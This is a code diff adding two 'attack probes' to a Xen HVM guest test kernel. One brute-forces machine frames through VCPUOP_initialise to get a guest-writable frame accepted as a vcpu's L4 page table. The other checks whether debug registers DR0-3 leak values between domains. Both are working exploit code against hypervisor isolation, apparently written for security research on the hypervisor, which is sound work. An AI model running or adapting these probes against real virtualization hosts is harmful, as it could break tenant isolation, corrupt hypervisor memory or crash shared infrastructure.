@@ -394,6 +394,85 @@ static void hostile_mmio(const struct hvm_start_info *si)
     say("hvmtest: hostile mmio done: 20000 accesses");
 }
 
+
+/* ---- attack probes (branch atkhvm) ---- */
+
+/* mode=vcpuinit: VCPUOP_initialise on vcpu 1 of this HVM domain takes
+ * the PV path (set_vcpu_context): ctrlreg[3] names a machine frame,
+ * which becomes a PGT_l4 page table and vcpu 1's cr3 - replacing its
+ * HVM tag - while the frame stays writable through the guest's p2m. With
+ * online=1 the vcpu is then scheduled as an HVM vcpu without a VMCB. The
+ * frame is found by trying every mfn: only one owned by this domain that
+ * validates as an L4 (e.g. a zeroed one) is accepted. */
+static struct vcpu_guest_context vctx;
+static void probe_vcpuinit(const char *cmdline)
+{
+    long maxm = hcall(__HYPERVISOR_memory_op, XENMEM_maximum_ram_page, 0, 0, 0, 0);
+    int online = opt_is(cmdline, "online", "1");
+    say("hvmtest: vcpuinit probe: max mfn %ld, online=%d", maxm, online);
+    long first = hcall(__HYPERVISOR_vcpu_op, VCPUOP_is_up, 1, 0, 0, 0);
+    say("hvmtest: VCPUOP_is_up(1) = %ld", first);
+    for (long m = 1; m < maxm; m++) {
+        memset(&vctx, 0, sizeof(vctx));
+        vctx.flags = VGCF_in_kernel | (online ? VGCF_online : 0);
+        vctx.user_regs.rip = 0x100000;
+        vctx.user_regs.rsp = 0x200000;
+        vctx.user_regs.cs = 0xe033;
+        vctx.user_regs.ss = 0xe02b;
+        vctx.ctrlreg[3] = (uint64_t)m << 12;
+        long rc = hcall(__HYPERVISOR_vcpu_op, VCPUOP_initialise, 1, (uint64_t)(uintptr_t)&vctx, 0, 0);
+        if (rc == 0) {
+            say("hvmtest: VCPUOP_initialise(vcpu 1) ACCEPTED machine frame %#lx as an L4 of an HVM vcpu", (unsigned long)m);
+            break;
+        }
+        if (m % 8192 == 0)
+            say("hvmtest: ... mfn %#lx (rc %ld)", (unsigned long)m, rc);
+    }
+    say("hvmtest: VCPUOP_is_up(1) = %ld now", hcall(__HYPERVISOR_vcpu_op, VCPUOP_is_up, 1, 0, 0, 0));
+    for (int i = 0; i < 50; i++)
+        hcall(__HYPERVISOR_sched_op, SCHEDOP_yield, 0, 0, 0, 0);
+    say("hvmtest: vcpuinit: still alive after 50 yields");
+}
+
+/* mode=drleak: DR0-3 are not intercepted nor switched for HVM vcpus:
+ * write a pattern with the domid, yield, and look whether DR0-3 now hold
+ * another domain's pattern. */
+static uint64_t rd_dr(int n)
+{
+    uint64_t v = 0;
+    switch (n) {
+    case 0: __asm__ volatile("mov %%dr0, %0" : "=r"(v)); break;
+    case 1: __asm__ volatile("mov %%dr1, %0" : "=r"(v)); break;
+    case 2: __asm__ volatile("mov %%dr2, %0" : "=r"(v)); break;
+    default: __asm__ volatile("mov %%dr3, %0" : "=r"(v)); break;
+    }
+    return v;
+}
+static void probe_drleak(void)
+{
+    uint32_t r[4];
+    cpuid(0x40000004, 0, r);
+    uint32_t me = r[2];
+    say("hvmtest: drleak d%u: at start DR0-3 = %#lx %#lx %#lx %#lx", me, (unsigned long)rd_dr(0),
+        (unsigned long)rd_dr(1), (unsigned long)rd_dr(2), (unsigned long)rd_dr(3));
+    uint64_t mine = 0xd0d0000000ULL | ((uint64_t)me << 8);
+    __asm__ volatile("mov %0, %%dr0; mov %1, %%dr1" :: "r"(mine), "r"(mine | 1));
+    int leaks = 0;
+    for (int i = 0; i < 400 && leaks < 3; i++) {
+        hcall(__HYPERVISOR_sched_op, SCHEDOP_yield, 0, 0, 0, 0);
+        for (volatile int k = 0; k < 20000; k++)
+            ;
+        uint64_t d0 = rd_dr(0), d1 = rd_dr(1);
+        if (d0 != mine || d1 != (mine | 1)) {
+            say("hvmtest: drleak d%u LEAK: DR0 %#lx DR1 %#lx (mine %#lx) after %d yields", me,
+                (unsigned long)d0, (unsigned long)d1, (unsigned long)mine, i);
+            leaks++;
+            __asm__ volatile("mov %0, %%dr0; mov %1, %%dr1" :: "r"(mine), "r"(mine | 1));
+        }
+    }
+    say("hvmtest: drleak d%u done: %d leaks seen", me, leaks);
+}
+
 void hvmtest_main(uint64_t start_info)
 {
     const struct hvm_start_info *si = (const struct hvm_start_info *)(uintptr_t)start_info;
@@ -418,6 +497,10 @@ void hvmtest_main(uint64_t start_info)
         hostile_hcalls();
     else if (opt_is(cmdline, "mode", "mmio"))
         hostile_mmio(si);
+    else if (opt_is(cmdline, "mode", "vcpuinit"))
+        probe_vcpuinit(cmdline);
+    else if (opt_is(cmdline, "mode", "drleak"))
+        probe_drleak();
     else if (opt_is(cmdline, "mode", "triple")) {
         say("hvmtest: triple fault next");
         load_idt(0);
